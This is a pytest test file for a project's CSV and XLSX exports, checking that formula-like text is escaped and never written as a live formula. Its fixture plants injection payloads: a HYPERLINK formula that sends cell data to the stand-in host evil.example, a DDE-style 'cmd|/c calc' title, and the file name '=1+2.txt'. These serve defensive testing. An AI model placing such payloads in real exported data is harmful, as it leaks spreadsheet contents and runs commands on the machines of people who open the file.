"""Formula injection (issue 11, item 7): every CSV and XLSX the project writes — ``gongkai export``
and the web app's downloads — writes text that starts with ``= + - @`` (or a tab / CR) as text:
a leading ``'`` in CSV, a string cell in XLSX, never a formula. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from gongkai.corpus.ingest import ingest
from gongkai.store.db import Store
from gongkai.store.safe_cells import csv_row, csv_value, is_risky, xlsx_row
from gongkai.views.cli import app as cli_app
from gongkai.views.web.app import create_app

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "examples" / "003_4a9178fd99f7f697.txt"
EVIL_AGENCY = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
EVIL_NAME = "=1+2.txt"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int]:
    """One real report stored as ``=1+2.txt`` (a relative path, as `gongkai ingest` keeps it),
    its agency rewritten to a HYPERLINK formula and one figure made negative."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copy(SEED, folder / EVIL_NAME)
    db = folder / "hostile.duckdb"
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(folder)
        with Store(db) as store:
            ingest([Path(EVIL_NAME)], store, workers=1)
    with Store(db) as store:
        rid = store.query("SELECT id FROM reports")[0][0]
        store.run("UPDATE reports SET agency = ?, title = '@SUM(1+1)*cmd|/c calc!A0'", [EVIL_AGENCY])
        store.run(
            """UPDATE "values" SET value = -3, raw = '-3' WHERE report = ? AND (table_key, row_key, column_key) =
            (SELECT (table_key, row_key, column_key) FROM "values" WHERE report = ? AND value IS NOT NULL
             ORDER BY table_key, row_order, column_key LIMIT 1)""",
            [rid, rid],
        )
    return db, rid


def _every_cell(path: Path | io.BytesIO) -> list[Any]:
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(cells: list[Any]) -> None:
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    risky = [c for c in cells if isinstance(c.value, str) and is_risky(c.value)]
    assert risky, "the hostile texts must be in the workbook"
    assert {c.data_type for c in risky} == {"s"}


def test_safe_cells_rules() -> None:
    assert csv_value("=1+2") == "'=1+2"
    assert csv_value("+86 10") == "'+86 10"
    assert csv_value("-x") == "'-x"
    assert csv_value("@SUM(A1)") == "'@SUM(A1)"
    assert csv_value("\t=1") == "'\t=1"
    assert csv_value("\r=1") == "'\r=1"
    assert csv_value("临河区") == "临河区"
    assert csv_row([-3, Decimal("-1.5"), -2.25, None, "a=b"]) == [-3, Decimal("-1.5"), -2.25, "", "a=b"]
    cells = xlsx_row(None, ["=1+2", -3, "ok\x01"])
    assert [(c.value, c.data_type) for c in cells] == [("=1+2", "s"), (-3, "n"), ("ok\ufffd", "s")]


def test_cli_export_xlsx_writes_text_never_formulas(hostile_db: tuple[Path, int], tmp_path: Path) -> None:
    db, _ = hostile_db
    out = tmp_path / "book.xlsx"
    r = CliRunner().invoke(cli_app, ["export", "--format", "xlsx", "--db", str(db), "--out", str(out)])
    assert r.exit_code == 0, r.output
    cells = _every_cell(out)
    _assert_no_formula(cells)
    wb = load_workbook(out)
    reports = wb["报告"]
    heads = [c.value for c in reports[1]]
    row = [c for c in reports[2]]
    path_cell = row[heads.index("文件")]
    agency_cell = row[heads.index("机关")]
    assert (path_cell.value, path_cell.data_type) == (EVIL_NAME, "s")
    assert (agency_cell.value, agency_cell.data_type) == (EVIL_AGENCY, "s")
    numbers = [c for c in cells if c.data_type == "n" and isinstance(c.value, (int, float)) and c.value == -3]
    assert numbers, "a negative figure stays a number"


def test_cli_export_csv_quotes_formulas(hostile_db: tuple[Path, int], tmp_path: Path) -> None:
    db, _ = hostile_db
    out = tmp_path / "csv"
    r = CliRunner().invoke(cli_app, ["export", "--format", "csv", "--db", str(db), "--out", str(out)])
    assert r.exit_code == 0, r.output
    with (out / "reports.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["path"] == "'" + EVIL_NAME
    assert rows[0]["agency"] == "'" + EVIL_AGENCY
    assert rows[0]["title"].startswith("'@SUM")
    with (out / "values.csv").open(encoding="utf-8") as fh:
        values = list(csv.DictReader(fh))
    assert any(v["value"] == "-3" for v in values)  # a number, written as a number
    assert any(v["raw"] == "'-3" for v in values)  # the text as printed, written as text
    for name in ("reports", "values", "findings", "requests"):
        with (out / f"{name}.csv").open(encoding="utf-8") as fh:
            for rec in csv.DictReader(fh):
                for key, cell in rec.items():
                    if key != "value" and not key.startswith(("c_", "v_")):
                        assert not cell.startswith(("=", "+", "@")), (name, key, cell)


def test_web_csv_and_xlsx_downloads(hostile_db: tuple[Path, int], tmp_path: Path) -> None:
    db, rid = hostile_db
    app = create_app(db, uploads_dir=tmp_path / "uploads")
    with TestClient(app, base_url="http://127.0.0.1") as client:
        r = client.get("/index.csv?table=findings")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        head = rows[0]
        assert rows[1][head.index("机关")] == "'" + EVIL_AGENCY
        assert rows[1][head.index("文件")] == "'" + EVIL_NAME
        x = client.get(f"/reports/{rid}.xlsx")
        assert x.status_code == 200 and int(x.headers["content-length"]) == len(x.content)
        cells = _every_cell(io.BytesIO(x.content))
        assert not [c for c in cells if c.data_type == "f"]
        assert any(c.value == -3 and c.data_type == "n" for c in cells)  # numbers stay numbers
        x = client.get("/index.xlsx?table=findings")
        cells = _every_cell(io.BytesIO(x.content))
        _assert_no_formula(cells)
        assert any(c.value == EVIL_AGENCY and c.data_type == "s" for c in cells)
